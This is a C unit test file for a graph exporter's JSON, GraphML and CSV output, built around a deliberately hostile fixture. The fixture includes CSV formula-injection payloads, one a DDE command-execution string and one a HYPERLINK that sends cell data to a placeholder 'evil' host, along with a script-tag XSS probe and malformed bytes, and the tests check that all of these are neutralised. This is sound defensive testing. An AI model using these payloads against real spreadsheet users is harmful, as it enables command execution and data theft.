/* test_export.c - the graph as JSON, GraphML and CSV (export.h), with
 * names and sentences an attacker could put in an article. */
#include <jansson.h>
#include <libxml/parser.h>
#include <libxml/tree.h>

#include "export.h"
#include "graph.h"
#include "testutil.h"

#define S(lit) lit, sizeof(lit) - 1

/* --- the hostile graph -------------------------------------------------------- */

/* Markup, quotes, entities, CDATA end, backslashes, a control byte. */
#define N_EVIL "Evil \"Corp\" <script>alert('x')</script> & Co ]]> \\bs\\ \x01 end"
#define N_CMD "=cmd|' /C calc'!A0"
#define N_SUM "+SUM(1,2)"
#define N_NEG "-2+3"
#define N_AT "@home, \"x\"\r\nline2"
/* ill-formed UTF-8 (a stray byte, an overlong NUL) and U+FFFF, which is
 * UTF-8 but not an XML character */
#define N_BAD "Bad\xff\xc0\x80" "Bytes\xef\xbf\xbf"
#define N_BAD_FIXED "Bad\xef\xbf\xbd\xef\xbf\xbd\xef\xbf\xbd" "Bytes\xef\xbf\xbf"
#define N_BAD_XML "Bad\xef\xbf\xbd\xef\xbf\xbd\xef\xbf\xbd" "Bytes "

#define S1 "He said \"hi\", <b>bold</b> & ]]> \\ \x01\x1f end\r\nnext"
#define S1_XML "He said \"hi\", <b>bold</b> & ]]> \\    end\r\nnext"
#define S2 "Second sentence in Z\xc3\xbcrich with a bare\rCR."
#define S3 "=HYPERLINK(\"http://evil/?\"&A1,\"click\")"
#define S4 "-1 more: <![CDATA[x]]>"
#define S5 "@SUM(A1) \x7f tail"

#define T0 "<Title> & \"quotes\" \x02 '"
#define U0 "http://x/?a=1&b=<2>"
#define D0 "2024-01-02T00:00:00Z"

typedef struct {
	erg_graph *g;
	size_t d0, d1;
} xfix;

static void add(erg_graph *g, const char *s, erg_etype st, const char *country,
                erg_rel rel, const char *o, erg_etype ot, size_t doc,
                const char *sent, size_t start)
{
	erg_graph_rel r = {s, country, st, rel, o, NULL, ot, 0, 0, doc,
	                   sent, strlen(sent), start, start + strlen(sent)};

	assert_int_equal(erg_graph_add_rel(g, &r), ERG_OK);
}

static int xfix_setup(void **state)
{
	xfix *x = calloc(1, sizeof *x);

	if (!x || !(x->g = erg_graph_new()))
		return -1;
	*state = x;
	if (erg_graph_add_doc(x->g, "a.txt", &x->d0) ||
	    erg_graph_doc_meta(x->g, x->d0, T0, U0, D0) ||
	    erg_graph_add_doc(x->g, "=b.txt", &x->d1))
		return -1;
	add(x->g, N_EVIL, ERG_AGENCY, "ZZ", ERG_SUMMONED, N_CMD, ERG_COMPANY,
	    x->d0, S1, 10);
	add(x->g, N_EVIL, ERG_AGENCY, "ZZ", ERG_SUMMONED, N_CMD, ERG_COMPANY,
	    x->d1, S2, 0);
	add(x->g, N_CMD, ERG_COMPANY, NULL, ERG_PURCHASED, N_SUM, ERG_CHIP,
	    x->d1, S3, 30);
	add(x->g, N_NEG, ERG_COMPANY, NULL, ERG_MAKES, N_SUM, ERG_CHIP, x->d0,
	    S4, 100);
	add(x->g, N_EVIL, ERG_AGENCY, "ZZ", ERG_RESTRICTED, N_AT, ERG_COMPANY,
	    x->d0, S5, 200);
	add(x->g, N_BAD, ERG_COMPANY, NULL, ERG_PURCHASED, N_SUM, ERG_CHIP,
	    x->d0, S2, 300);
	/* the fixture is what the tests assume */
	if (erg_graph_nnodes(x->g) != 6 || erg_graph_nedges(x->g) != 5)
		return -1;
	return 0;
}

static int xfix_teardown(void **state)
{
	xfix *x = *state;

	erg_graph_free(x->g);
	free(x);
	return 0;
}

/* --- capturing output ------------------------------------------------------- */

typedef struct {
	char *data;
	size_t len;
	FILE *f;
} mem;

static void mem_open(mem *m)
{
	m->data = NULL;
	m->len = 0;
	m->f = open_memstream(&m->data, &m->len);
	assert_non_null(m->f);
}

static void mem_close(mem *m)
{
	assert_int_equal(fclose(m->f), 0);
	m->f = NULL;
	assert_non_null(m->data);
}

static char *run_json(const erg_graph *g, size_t *len)
{
	mem m;

	mem_open(&m);
	assert_int_equal(erg_export_json(g, m.f), ERG_OK);
	mem_close(&m);
	*len = m.len;
	return m.data;
}

static char *run_graphml(const erg_graph *g, size_t *len)
{
	mem m;

	mem_open(&m);
	assert_int_equal(erg_export_graphml(g, m.f), ERG_OK);
	mem_close(&m);
	*len = m.len;
	return m.data;
}

/* --- JSON ------------------------------------------------------------------- */

/* Whether text (len bytes) holds s. */
static int has(const char *text, size_t len, const char *s)
{
	size_t n = strlen(s);

	for (size_t i = 0; i + n <= len; i++)
		if (memcmp(text + i, s, n) == 0)
			return 1;
	return 0;
}

static json_t *jparse(const char *text, size_t len)
{
	json_error_t err;
	json_t *j = json_loadb(text, len, JSON_REJECT_DUPLICATES, &err);

	if (!j)
		print_error("  JSON error line %d: %s\n%s\n", err.line, err.text,
		            text);
	assert_non_null(j);
	return j;
}

static void jstr_is(const json_t *o, const char *key, const char *want)
{
	json_t *v = json_object_get(o, key);

	if (!json_is_string(v) || json_string_length(v) != strlen(want) ||
	    memcmp(json_string_value(v), want, strlen(want)) != 0) {
		print_error("  \"%s\": got <%s> want <%s>\n", key,
		            json_is_string(v) ? json_string_value(v) : "(not a string)",
		            want);
		fail();
	}
}

static void jnull_is(const json_t *o, const char *key)
{
	json_t *v = json_object_get(o, key);

	if (!json_is_null(v)) {
		print_error("  \"%s\" is not null\n", key);
		fail();
	}
}

static void jint_is(const json_t *o, const char *key, size_t want)
{
	json_t *v = json_object_get(o, key);

	assert_true(json_is_integer(v));
	assert_int_equal(json_integer_value(v), want);
}

/* Keys of o in order, comma-separated, into buf. */
static void jkeys(const json_t *o, char *buf, size_t n)
{
	const char *k;
	json_t *v;

	buf[0] = '\0';
	json_object_foreach((json_t *)o, k, v) {
		(void)v;
		if (buf[0])
			strncat(buf, ",", n - strlen(buf) - 1);
		strncat(buf, k, n - strlen(buf) - 1);
	}
}

static void keys_are(const json_t *o, const char *want)
{
	char buf[256];

	jkeys(o, buf, sizeof buf);
	assert_string_equal(buf, want);
}

static size_t node_named(const erg_graph *g, const char *name)
{
	for (size_t i = 0; i < erg_graph_nnodes(g); i++)
		if (strcmp(erg_graph_node(g, i)->name, name) == 0)
			return i;
	fail_msg("no node %s", name);
	return 0;
}

static void json_roundtrip(void **state)
{
	xfix *x = *state;
	size_t len;
	char *text = run_json(x->g, &len);
	json_t *j = jparse(text, len), *docs, *nodes, *edges;
	char id[32];

	/* escaped: no raw control byte but the indentation's line breaks */
	for (size_t i = 0; i < len; i++)
		if ((unsigned char)text[i] < 0x20 && text[i] != '\n')
			fail_msg("raw control byte 0x%02x at %zu", text[i], i);
	assert_int_equal(text[len - 1], '\n');
	/* UTF-8 is kept as it is, not turned into \u escapes */
	assert_true(has(text, len, "Z\xc3\xbcrich"));
	keys_are(j, "documents,nodes,edges");
	docs = json_object_get(j, "documents");
	nodes = json_object_get(j, "nodes");
	edges = json_object_get(j, "edges");
	assert_int_equal(json_array_size(docs), 2);
	assert_int_equal(json_array_size(nodes), 6);
	assert_int_equal(json_array_size(edges), 5);

	keys_are(json_array_get(docs, 0), "id,name,title,url,date");
	jstr_is(json_array_get(docs, 0), "id", "d0");
	jstr_is(json_array_get(docs, 0), "name", "a.txt");
	jstr_is(json_array_get(docs, 0), "title", T0);
	jstr_is(json_array_get(docs, 0), "url", U0);
	jstr_is(json_array_get(docs, 0), "date", D0);
	jstr_is(json_array_get(docs, 1), "name", "=b.txt");
	jnull_is(json_array_get(docs, 1), "title");
	jnull_is(json_array_get(docs, 1), "url");
	jnull_is(json_array_get(docs, 1), "date");

	for (size_t i = 0; i < erg_graph_nnodes(x->g); i++) {
		const erg_node *n = erg_graph_node(x->g, i);
		json_t *o = json_array_get(nodes, i);
		int bad = strcmp(n->name, N_BAD) == 0;

		keys_are(o, "id,name,type,country,count");
		snprintf(id, sizeof id, "n%zu", i);
		jstr_is(o, "id", id);
		jstr_is(o, "name", bad ? N_BAD_FIXED : n->name);
		jstr_is(o, "type", erg_etype_name(n->type));
		if (n->country[0])
			jstr_is(o, "country", n->country);
		else
			jnull_is(o, "country");
		jint_is(o, "count", n->count);
	}
	/* spot checks against literals, not only against the graph */
	jstr_is(json_array_get(nodes, node_named(x->g, N_EVIL)), "name", N_EVIL);
	jstr_is(json_array_get(nodes, node_named(x->g, N_EVIL)), "country", "ZZ");
	jint_is(json_array_get(nodes, node_named(x->g, N_EVIL)), "count", 2);

	for (size_t i = 0; i < erg_graph_nedges(x->g); i++) {
		const erg_edge *e = erg_graph_edge(x->g, i);
		json_t *o = json_array_get(edges, i), *ev;

		keys_are(o, "id,source,target,relation,count,evidence");
		snprintf(id, sizeof id, "e%zu", i);
		jstr_is(o, "id", id);
		snprintf(id, sizeof id, "n%zu", e->from);
		jstr_is(o, "source", id);
		snprintf(id, sizeof id, "n%zu", e->to);
		jstr_is(o, "target", id);
		jstr_is(o, "relation", erg_rel_name(e->rel));
		jint_is(o, "count", e->count);
		ev = json_object_get(o, "evidence");
		assert_int_equal(json_array_size(ev), e->evidence.len);
		for (size_t k = 0; k < e->evidence.len; k++) {
			const erg_evidence *gv = erg_vec_at(&e->evidence, k);
			const erg_graph_docinfo *d = erg_graph_docinfo_at(x->g, gv->doc);
			json_t *v = json_array_get(ev, k);

			keys_are(v, "doc,title,url,date,sentence,start,end");
			jstr_is(v, "doc", d->name);
			if (d->title)
				jstr_is(v, "title", d->title);
			else
				jnull_is(v, "title");
			jstr_is(v, "sentence", gv->sentence);
			jint_is(v, "start", gv->start);
			jint_is(v, "end", gv->end);
		}
	}
	/* the first edge: EVIL summoned CMD, twice, the hostile sentence */
	{
		json_t *e0 = json_array_get(edges, 0);
		json_t *v0 = json_array_get(json_object_get(e0, "evidence"), 0);
		json_t *v1 = json_array_get(json_object_get(e0, "evidence"), 1);

		jstr_is(e0, "relation", "summoned");
		jint_is(e0, "count", 2);
		jstr_is(v0, "sentence", S1);
		jstr_is(v0, "doc", "a.txt");
		jstr_is(v0, "url", U0);
		jstr_is(v0, "date", D0);
		jint_is(v0, "start", 10);
		jint_is(v0, "end", 10 + strlen(S1));
		jstr_is(v1, "doc", "=b.txt");
		jnull_is(v1, "date");
	}
	json_decref(j);
	free(text);
}

/* Same graph, same bytes. */
static void json_deterministic(void **state)
{
	xfix *x = *state;
	size_t n1, n2;
	char *a = run_json(x->g, &n1), *b = run_json(x->g, &n2);

	assert_int_equal(n1, n2);
	assert_memory_equal(a, b, n1);
	free(a);
	free(b);
}

/* --- GraphML ---------------------------------------------------------------- */

static int xml_errors, xml_quiet;

static void count_xml_error(void *ctx, xmlErrorPtr err)
{
	(void)ctx;
	xml_errors++;
	if (!xml_quiet)
		print_error("  XML: line %d: %s", err->line, err->message);
}

/* Parse strictly (no recovery, no network); fails on any error. */
static xmlDoc *xml_parse(const char *text, size_t len)
{
	xmlDoc *doc;

	xml_errors = 0;
	xmlSetStructuredErrorFunc(NULL, count_xml_error);
	doc = xmlReadMemory(text, (int)len, "out.graphml", NULL,
	                    XML_PARSE_NONET);
	xmlSetStructuredErrorFunc(NULL, NULL);
	assert_int_equal(xml_errors, 0);
	assert_non_null(doc);
	return doc;
}

static int is_el(const xmlNode *n, const char *name)
{
	return n->type == XML_ELEMENT_NODE &&
	       strcmp((const char *)n->name, name) == 0;
}

/* An attribute's value; empty when absent (the caller frees). */
static char *prop(xmlNode *n, const char *name)
{
	xmlChar *v = xmlGetProp(n, (const xmlChar *)name);
	char *s = erg_strndup(v ? (const char *)v : "", v ? strlen((char *)v) : 0);

	xmlFree(v);
	assert_non_null(s);
	return s;
}

static void prop_is(xmlNode *n, const char *name, const char *want)
{
	char *v = prop(n, name);

	assert_string_equal(v, want);
	free(v);
}

/* The text of n's <data key="key">, or NULL if it has none. */
static char *data_of(xmlNode *n, const char *key)
{
	for (xmlNode *c = n->children; c; c = c->next) {
		char *k;
		int hit;

		if (!is_el(c, "data"))
			continue;
		k = prop(c, "key");
		hit = strcmp(k, key) == 0;
		free(k);
		if (hit) {
			xmlChar *t = xmlNodeGetContent(c);
			char *s = erg_strndup((const char *)t, strlen((char *)t));

			xmlFree(t);
			return s;
		}
	}
	return NULL;
}

static void data_is(xmlNode *n, const char *key, const char *want)
{
	char *v = data_of(n, key);

	if (!v || strcmp(v, want) != 0) {
		print_error("  data %s: got <%s> want <%s>\n", key, v ? v : "(none)",
		            want);
		free(v);
		fail();
	}
	free(v);
}

/* No element anywhere but GraphML's own. */
static void only_graphml_elements(xmlNode *n)
{
	static const char *const ok[] = {"graphml", "key", "graph", "node",
	                                 "edge", "data"};

	for (; n; n = n->next) {
		int known = 0;

		if (n->type != XML_ELEMENT_NODE)
			continue;
		for (size_t i = 0; i < TU_COUNT(ok); i++)
			known |= is_el(n, ok[i]);
		if (!known)
			fail_msg("unexpected element <%s>", (const char *)n->name);
		only_graphml_elements(n->children);
	}
}

/* The id of the key declared for what ("node"/"edge") with attr.name,
 * of attr.type type; fails if there is none. */
static char *key_id(xmlNode *root, const char *what, const char *name,
                    const char *type)
{
	for (xmlNode *c = root->children; c; c = c->next) {
		char *f, *a, *t;
		int hit;

		if (!is_el(c, "key"))
			continue;
		f = prop(c, "for");
		a = prop(c, "attr.name");
		t = prop(c, "attr.type");
		hit = strcmp(f, what) == 0 && strcmp(a, name) == 0 &&
		      strcmp(t, type) == 0;
		free(f);
		free(a);
		free(t);
		if (hit)
			return prop(c, "id");
	}
	fail_msg("no key for %s %s", what, name);
	return NULL;
}

static void graphml_wellformed_with_keys(void **state)
{
	xfix *x = *state;
	size_t len, nn = 0, ne = 0;
	char *text = run_graphml(x->g, &len);
	xmlDoc *doc = xml_parse(text, len);
	xmlNode *root = xmlDocGetRootElement(doc), *graph = NULL;
	char *k_label, *k_type, *k_country, *k_ncount, *k_rel, *k_ecount, *k_ev;

	assert_true(is_el(root, "graphml"));
	assert_non_null(root->ns);
	assert_string_equal((const char *)root->ns->href,
	                    "http://graphml.graphdrawing.org/xmlns");
	only_graphml_elements(root);
	k_label = key_id(root, "node", "label", "string");
	k_type = key_id(root, "node", "type", "string");
	k_country = key_id(root, "node", "country", "string");
	k_ncount = key_id(root, "node", "count", "int");
	k_rel = key_id(root, "edge", "relation", "string");
	k_ecount = key_id(root, "edge", "count", "int");
	k_ev = key_id(root, "edge", "evidence", "string");
	/* key ids are unique */
	assert_string_not_equal(k_ncount, k_ecount);

	for (xmlNode *c = root->children; c; c = c->next)
		if (is_el(c, "graph"))
			graph = c;
	assert_non_null(graph);
	prop_is(graph, "edgedefault", "directed");
	for (xmlNode *c = graph->children; c; c = c->next) {
		char id[32], num[32];

		if (is_el(c, "node")) {
			const erg_node *n = erg_graph_node(x->g, nn);
			int bad = strcmp(n->name, N_BAD) == 0;
			int evil = strcmp(n->name, N_EVIL) == 0;
			char *country = data_of(c, k_country);

			snprintf(id, sizeof id, "n%zu", nn++);
			prop_is(c, "id", id);
			/* the control byte became a space, the rest is intact */
			data_is(c, k_label, bad    ? N_BAD_XML
			                    : evil ? "Evil \"Corp\" <script>alert('x')"
			                             "</script> & Co ]]> \\bs\\   end"
			                           : n->name);
			data_is(c, k_type, erg_etype_name(n->type));
			snprintf(num, sizeof num, "%zu", n->count);
			data_is(c, k_ncount, num);
			if (n->country[0])
				assert_string_equal(country, n->country);
			else
				assert_null(country);
			free(country);
		} else if (is_el(c, "edge")) {
			const erg_edge *e = erg_graph_edge(x->g, ne);
			const erg_evidence *ev = erg_vec_at(&e->evidence, 0);

			snprintf(id, sizeof id, "e%zu", ne++);
			prop_is(c, "id", id);
			snprintf(id, sizeof id, "n%zu", e->from);
			prop_is(c, "source", id);
			snprintf(id, sizeof id, "n%zu", e->to);
			prop_is(c, "target", id);
			data_is(c, k_rel, erg_rel_name(e->rel));
			snprintf(num, sizeof num, "%zu", e->count);
			data_is(c, k_ecount, num);
			/* CR and LF survive (the writer escapes CR), 0x01 and
			 * 0x1f do not */
			data_is(c, k_ev, ne == 1 ? S1_XML : ev->sentence);
		}
	}
	assert_int_equal(nn, erg_graph_nnodes(x->g));
	assert_int_equal(ne, erg_graph_nedges(x->g));
	free(k_label);
	free(k_type);
	free(k_country);
	free(k_ncount);
	free(k_rel);
	free(k_ecount);
	free(k_ev);
	xmlFreeDoc(doc);
	free(text);
}

/* The checker itself rejects what the writer must never produce. */
static void xml_checker_rejects_junk(void **state)
{
	static const char *const bad[] = {
		"<a>\x01</a>", "<a>]]></a>", "<a>&</a>", "<a><script></a>",
		"<a b=\"<\"/>", "<a>\xff</a>",
	};

	(void)state;
	xml_quiet = 1;
	for (size_t i = 0; i < TU_COUNT(bad); i++) {
		xmlDoc *doc;

		xml_errors = 0;
		xmlSetStructuredErrorFunc(NULL, count_xml_error);
		doc = xmlReadMemory(bad[i], (int)strlen(bad[i]), "junk", NULL,
		                    XML_PARSE_NONET);
		xmlSetStructuredErrorFunc(NULL, NULL);
		if (!doc && xml_errors == 0)
			xml_errors = 1;
		xmlFreeDoc(doc);
		if (xml_errors == 0)
			fail_msg("accepted <%s>", bad[i]);
	}
	xml_quiet = 0;
}

/* --- CSV -------------------------------------------------------------------- */

/* A strict RFC 4180 reader: records end with CRLF; a field is either
 * plain (no quote, CR or LF) or quoted with quotes doubled and nothing
 * after its closing quote but a comma or a record end.  Returns the
 * number of records, or -1 on a violation; rows[i] gets record i. */
#define MAXROWS 32

static int csv_parse(const char *s, size_t len, tu_strs rows[MAXROWS])
{
	const char *p = s, *end = s + len;
	int nrows = 0;

	while (p < end) {
		tu_strs *row;

		if (nrows == MAXROWS)
			return -1;
		row = &rows[nrows++];
		for (;;) {
			erg_buf f = ERG_BUF_INIT;

			erg_buf_puts(&f, "");
			if (p < end && *p == '"') {
				for (p++;; p++) {
					if (p == end) {
						erg_buf_free(&f);
						return -1;
					}
					if (*p == '"') {
						if (p + 1 < end && p[1] == '"')
							p++;
						else
							break;
					}
					erg_buf_putc(&f, *p);
				}
				p++; /* closing quote */
			} else {
				while (p < end && *p != ',' && *p != '\r') {
					if (*p == '"' || *p == '\n') {
						erg_buf_free(&f);
						return -1;
					}
					erg_buf_putc(&f, *p++);
				}
			}
			tu_strs_push(row, f.data);
			erg_buf_free(&f);
			if (p < end && *p == ',') {
				p++;
				continue;
			}
			if (end - p >= 2 && p[0] == '\r' && p[1] == '\n') {
				p += 2;
				break;
			}
			return -1; /* junk after a field, or no CRLF at the end */
		}
	}
	return nrows;
}

static void csv_free(tu_strs rows[MAXROWS])
{
	for (int i = 0; i < MAXROWS; i++)
		tu_strs_free(&rows[i]);
}

static void csv_checker_rejects_junk(void **state)
{
	static const char *const bad[] = {
		"a,b",           /* no CRLF */
		"a,b\n",         /* bare LF */
		"a\"b\r\n",      /* quote in a plain field */
		"\"a\"b\r\n",    /* junk after the closing quote */
		"\"a\r\n",       /* unclosed */
		"a\rb\r\n",      /* bare CR */
	};
	tu_strs rows[MAXROWS];

	(void)state;
	for (size_t i = 0; i < TU_COUNT(bad); i++) {
		memset(rows, 0, sizeof rows);
		if (csv_parse(bad[i], strlen(bad[i]), rows) >= 0)
			fail_msg("accepted <%s>", bad[i]);
		csv_free(rows);
	}
	memset(rows, 0, sizeof rows);
	assert_int_equal(csv_parse(S("a,\"b,\"\"c\"\"\r\nd\",\r\n"), rows), 1);
	assert_int_equal(rows[0].n, 3);
	assert_string_equal(rows[0].v[1], "b,\"c\"\r\nd");
	assert_string_equal(rows[0].v[2], "");
	csv_free(rows);
}

/* What a spreadsheet must see for a text field. */
static const char *defused(const char *s, char *buf, size_t n)
{
	if (strchr("=+-@\t\r", s[0]) && s[0])
		snprintf(buf, n, "'%s", s);
	else
		snprintf(buf, n, "%s", s);
	return buf;
}

static void no_formula_starts(tu_strs rows[MAXROWS], int nrows)
{
	for (int r = 0; r < nrows; r++)
		for (size_t i = 0; i < rows[r].n; i++)
			if (rows[r].v[i][0] && strchr("=+-@\t\r", rows[r].v[i][0]))
				fail_msg("row %d field %zu starts a formula: <%s>", r, i,
				         rows[r].v[i]);
}

static void csv_fields_and_formulas(void **state)
{
	xfix *x = *state;
	mem nm, em;
	tu_strs nrows[MAXROWS], erows[MAXROWS];
	char want[512], id[32];
	int nn, ne;

	memset(nrows, 0, sizeof nrows);
	memset(erows, 0, sizeof erows);
	mem_open(&nm);
	mem_open(&em);
	assert_int_equal(erg_export_csv(x->g, nm.f, em.f), ERG_OK);
	mem_close(&nm);
	mem_close(&em);
	nn = csv_parse(nm.data, nm.len, nrows);
	ne = csv_parse(em.data, em.len, erows);
	if (nn < 0 || ne < 0)
		print_error("  nodes:\n%s\n  edges:\n%s\n", nm.data, em.data);
	assert_int_equal(nn, 1 + (int)erg_graph_nnodes(x->g));
	assert_int_equal(ne, 1 + (int)erg_graph_nedges(x->g));
	no_formula_starts(nrows, nn);
	no_formula_starts(erows, ne);

	assert_int_equal(nrows[0].n, 5);
	assert_string_equal(nrows[0].v[0], "id");
	assert_string_equal(nrows[0].v[1], "name");
	assert_string_equal(nrows[0].v[2], "type");
	assert_string_equal(nrows[0].v[3], "country");
	assert_string_equal(nrows[0].v[4], "count");
	for (int r = 1; r < nn; r++) {
		const erg_node *n = erg_graph_node(x->g, (size_t)r - 1);
		int bad = strcmp(n->name, N_BAD) == 0;

		assert_int_equal(nrows[r].n, 5);
		snprintf(id, sizeof id, "n%d", r - 1);
		assert_string_equal(nrows[r].v[0], id);
		assert_string_equal(nrows[r].v[1],
		                    defused(bad ? N_BAD_FIXED : n->name, want,
		                            sizeof want));
		assert_string_equal(nrows[r].v[2], erg_etype_name(n->type));
		assert_string_equal(nrows[r].v[3], n->country);
		assert_int_equal(strtoul(nrows[r].v[4], NULL, 10), n->count);
	}
	/* literals: neutralised and quoted as they must be */
	assert_string_equal(nrows[1 + node_named(x->g, N_CMD)].v[1], "'" N_CMD);
	assert_string_equal(nrows[1 + node_named(x->g, N_SUM)].v[1], "'" N_SUM);
	assert_string_equal(nrows[1 + node_named(x->g, N_NEG)].v[1], "'" N_NEG);
	assert_string_equal(nrows[1 + node_named(x->g, N_AT)].v[1], "'" N_AT);
	assert_string_equal(nrows[1 + node_named(x->g, N_EVIL)].v[1], N_EVIL);
	assert_string_equal(nrows[1 + node_named(x->g, N_EVIL)].v[3], "ZZ");

	assert_int_equal(erows[0].n, 8);
	assert_string_equal(erows[0].v[0], "id");
	assert_string_equal(erows[0].v[1], "source");
	assert_string_equal(erows[0].v[2], "target");
	assert_string_equal(erows[0].v[3], "source_name");
	assert_string_equal(erows[0].v[4], "relation");
	assert_string_equal(erows[0].v[5], "target_name");
	assert_string_equal(erows[0].v[6], "count");
	assert_string_equal(erows[0].v[7], "evidence");
	for (int r = 1; r < ne; r++) {
		const erg_edge *e = erg_graph_edge(x->g, (size_t)r - 1);
		const erg_node *a = erg_graph_node(x->g, e->from);
		const erg_node *b = erg_graph_node(x->g, e->to);
		const erg_evidence *ev = erg_vec_at(&e->evidence, 0);

		assert_int_equal(erows[r].n, 8);
		snprintf(id, sizeof id, "e%d", r - 1);
		assert_string_equal(erows[r].v[0], id);
		snprintf(id, sizeof id, "n%zu", e->from);
		assert_string_equal(erows[r].v[1], id);
		snprintf(id, sizeof id, "n%zu", e->to);
		assert_string_equal(erows[r].v[2], id);
		if (strcmp(a->name, N_BAD) != 0)
			assert_string_equal(erows[r].v[3],
			                    defused(a->name, want, sizeof want));
		assert_string_equal(erows[r].v[4], erg_rel_name(e->rel));
		assert_string_equal(erows[r].v[5], defused(b->name, want, sizeof want));
		assert_int_equal(strtoul(erows[r].v[6], NULL, 10), e->count);
		assert_string_equal(erows[r].v[7],
		                    defused(ev->sentence, want, sizeof want));
	}
	/* the first edge: two sentences, the first kept, quotes intact */
	assert_string_equal(erows[1].v[6], "2");
	assert_string_equal(erows[1].v[7], S1);
	csv_free(nrows);
	csv_free(erows);
	free(nm.data);
	free(em.data);
}

/* --- edge cases ------------------------------------------------------------- */

static void empty_graph(void **state)
{
	erg_graph *g = erg_graph_new();
	mem a, b;
	size_t len;
	char *text;
	json_t *j;
	xmlDoc *doc;

	(void)state;
	assert_non_null(g);
	text = run_json(g, &len);
	j = jparse(text, len);
	keys_are(j, "documents,nodes,edges");
	assert_int_equal(json_array_size(json_object_get(j, "nodes")), 0);
	assert_true(json_is_array(json_object_get(j, "edges")));
	json_decref(j);
	free(text);

	text = run_graphml(g, &len);
	doc = xml_parse(text, len);
	assert_true(is_el(xmlDocGetRootElement(doc), "graphml"));
	xmlFreeDoc(doc);
	free(text);

	mem_open(&a);
	mem_open(&b);
	assert_int_equal(erg_export_csv(g, a.f, b.f), ERG_OK);
	mem_close(&a);
	mem_close(&b);
	assert_string_equal(a.data, "id,name,type,country,count\r\n");
	assert_string_equal(b.data, "id,source,target,source_name,relation,"
	                            "target_name,count,evidence\r\n");
	free(a.data);
	free(b.data);
	erg_graph_free(g);
}

/* A stream that refuses writes (read-only) and one whose writes fail
 * only when flushed (/dev/full: ENOSPC). */
static void write_errors_are_eio(void **state)
{
	xfix *x = *state;
	const char *const modes[][2] = {{"/dev/null", "r"}, {"/dev/full", "w"}};
	mem ok;

	for (size_t i = 0; i < TU_COUNT(modes); i++) {
		FILE *f = fopen(modes[i][0], modes[i][1]);

		if (!f) {
			print_error("  (no %s here)\n", modes[i][0]);
			continue;
		}
		assert_int_equal(erg_export_json(x->g, f), ERG_EIO);
		clearerr(f);
		assert_int_equal(erg_export_graphml(x->g, f), ERG_EIO);
		clearerr(f);
		mem_open(&ok);
		assert_int_equal(erg_export_csv(x->g, f, ok.f), ERG_EIO);
		clearerr(f);
		assert_int_equal(erg_export_csv(x->g, ok.f, f), ERG_EIO);
		mem_close(&ok);
		free(ok.data);
		fclose(f);
	}
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test_setup_teardown(json_roundtrip, xfix_setup,
		                                xfix_teardown),
		cmocka_unit_test_setup_teardown(json_deterministic, xfix_setup,
		                                xfix_teardown),
		cmocka_unit_test(xml_checker_rejects_junk),
		cmocka_unit_test_setup_teardown(graphml_wellformed_with_keys,
		                                xfix_setup, xfix_teardown),
		cmocka_unit_test(csv_checker_rejects_junk),
		cmocka_unit_test_setup_teardown(csv_fields_and_formulas, xfix_setup,
		                                xfix_teardown),
		cmocka_unit_test(empty_graph),
		cmocka_unit_test_setup_teardown(write_errors_are_eio, xfix_setup,
		                                xfix_teardown),
	};

	return cmocka_run_group_tests_name("export", tests, NULL, NULL);
}
